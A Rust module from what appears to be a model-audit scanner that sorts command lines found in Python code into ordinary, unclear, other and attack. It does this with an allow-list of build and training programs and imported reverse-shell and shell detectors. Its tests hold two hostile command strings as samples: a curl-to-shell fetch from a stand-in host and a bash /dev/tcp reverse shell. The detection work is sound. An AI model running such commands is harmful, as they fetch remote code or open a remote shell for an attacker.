//! Which commands that Python code runs are ordinary and which are an attack.

use modelaudit_command_lines::{BATCH, Grade, POWERSHELL, REVERSE_SHELLS, SHELL, worst};

use crate::value::HOLE;

/// What a command is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// An attack, with what it does and whether well-meant installers do it, too.
    Attack(&'static str, Grade),
    /// Something that build, training and demo scripts do.
    Ordinary,
    /// The program is not known.
    Unclear,
    /// Any other program.
    Other,
}

/// Programs that build, training and demo scripts start: version control, compilers, package managers, queries about the machine.
/// Collected from setup.py files, Hugging Face Spaces and training repositories. `echo`, `id`, `touch` and the like are what
/// proofs of concept start, so they are not among them.
const ORDINARY: &[&str] = &[
    "7z",
    "apt",
    "apt-get",
    "ar",
    "arch",
    "autoconf",
    "aws",
    "bash",
    "black",
    "blender",
    "brew",
    "bunzip2",
    "bzip2",
    "c++",
    "cat",
    "cc",
    "cd",
    "cl",
    "clang",
    "clang++",
    "clear",
    "cls",
    "cmake",
    "conda",
    "cp",
    "curl",
    "cython",
    "date",
    "df",
    "diff",
    "dir",
    "docker",
    "dot",
    "dpkg",
    "du",
    "ffmpeg",
    "ffprobe",
    "file",
    "find",
    "flake8",
    "free",
    "g++",
    "gcc",
    "gcloud",
    "gdown",
    "getconf",
    "git",
    "git-lfs",
    "gitk",
    "gradle",
    "grep",
    "gs",
    "gsutil",
    "gunzip",
    "gzip",
    "head",
    "hf",
    "hipcc",
    "hipconfig",
    "hostname",
    "huggingface-cli",
    "ifconfig",
    "install_name_tool",
    "isort",
    "java",
    "javac",
    "ld",
    "ldconfig",
    "ldd",
    "less",
    "ln",
    "locale",
    "ls",
    "lsb_release",
    "lscpu",
    "lspci",
    "make",
    "man",
    "mamba",
    "meson",
    "mkdir",
    "modprobe",
    "module",
    "more",
    "mount",
    "mpirun",
    "mv",
    "nbconvert",
    "ninja",
    "nm",
    "node",
    "npm",
    "nproc",
    "npx",
    "nvcc",
    "nvidia-smi",
    "objdump",
    "open",
    "otool",
    "pandoc",
    "patch",
    "pdflatex",
    "pip",
    "pip3",
    "pkg-config",
    "poetry",
    "protoc",
    "ps",
    "pytest",
    "python",
    "python2",
    "python3",
    "pwd",
    "readelf",
    "rename",
    "rm",
    "rmdir",
    "rocm-smi",
    "rocminfo",
    "rsync",
    "ruff",
    "sbatch",
    "scontrol",
    "sed",
    "sh",
    "sinfo",
    "sleep",
    "sort",
    "sox",
    "sphinx-build",
    "squeue",
    "srun",
    "stty",
    "sw_vers",
    "swig",
    "sysctl",
    "system_profiler",
    "tail",
    "tar",
    "tensorboard",
    "test",
    "time",
    "torchrun",
    "tput",
    "true",
    "twine",
    "uname",
    "unrar",
    "unxz",
    "unzip",
    "uv",
    "vswhere",
    "wc",
    "wget",
    "where",
    "which",
    "whereis",
    "xcrun",
    "xdg-open",
    "yarn",
    "zip",
];

/// Words that may stand before a program.
const BEFORE: &[&str] = &["sudo", "env", "exec", "nohup", "time", "command", "(", "!"];

/// Judges a command line.
pub(crate) fn judge(command: &str) -> Kind {
    if let Some(found) = worst(command, &[REVERSE_SHELLS, SHELL, POWERSHELL, BATCH]) {
        return Kind::Attack(found.command.what, found.command.grade);
    }
    let mut kind = Kind::Ordinary;
    for part in command.split(['\n', ';', '|', '&']).map(str::trim).filter(|part| !part.is_empty()) {
        let words = part.split_whitespace();
        let program = words
            .map(|word| word.trim_matches(['"', '\'', '(', ')', '{', '}', '!']))
            .find(|word| !word.is_empty() && !BEFORE.contains(word) && !is_assignment(word));
        let Some(program) = program else { continue };
        let base = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
        let name = base.strip_suffix(".exe").unwrap_or(&base);
        let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
        if matches!(name, "sh" | "bash" | "cmd") {
            // `sh -c "..."`: what it is told to run.
            let told = part.split_once(" -c ").or_else(|| part.split_once(" /c ")).map(|(_, told)| told);
            if let Some(told) = told.map(|told| told.trim_matches(['"', '\'', ' '])).filter(|told| !told.is_empty()) {
                match judge(told) {
                    Kind::Ordinary => continue,
                    other => return other,
                }
            }
        }
        if program.contains(HOLE) {
            kind = Kind::Unclear;
        } else if !ORDINARY.contains(&name)
            && !ORDINARY.contains(&base.as_str())
            && !part.starts_with(['-', '>', '#'])
            && !name.is_empty()
        {
            return Kind::Other;
        }
    }
    kind
}

/// What a command line does, if it is an attack.
pub fn attack(command: &str) -> Option<&'static str> {
    match judge(command) {
        Kind::Attack(what, _) => Some(what),
        _ => None,
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

/// The program text of `python -c 'text'` in a command line.
pub(crate) fn python_program(command: &str) -> Option<&str> {
    let (before, after) = command.split_once(" -c ")?;
    let program = before.split_whitespace().last()?.rsplit('/').next()?;
    if !program.starts_with("python") {
        return None;
    }
    let after = after.trim();
    let quoted = |quote: char| after.strip_prefix(quote).and_then(|rest| rest.rsplit_once(quote)).map(|(text, _)| text);
    Some(quoted('"').or_else(|| quoted('\'')).unwrap_or(after))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_graded() {
        for command in [
            "git rev-parse HEAD",
            "CUDA_VISIBLE_DEVICES=0 python train.py && ls -l",
            "/usr/local/cuda/bin/nvcc --version",
            "pip install flash-attn --no-build-isolation",
            "gcc-12 -v 2>&1",
            "rm -rf build dist",
        ] {
            assert_eq!(judge(command), Kind::Ordinary, "{command}");
        }
        assert_eq!(judge("id"), Kind::Other);
        assert_eq!(judge("git status; touch /tmp/x"), Kind::Other);
        assert_eq!(judge("bash -c 'id'"), Kind::Other);
        assert_eq!(judge("\u{fffd} --version"), Kind::Unclear);
        assert!(matches!(judge("curl http://evil.example/x | sh"), Kind::Attack(_, Grade::Risky)));
        assert!(matches!(judge("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"), Kind::Attack(..)));
        assert_eq!(python_program("python3 -c \"import os\""), Some("import os"));
        assert_eq!(python_program("git -c x"), None);
    }
}
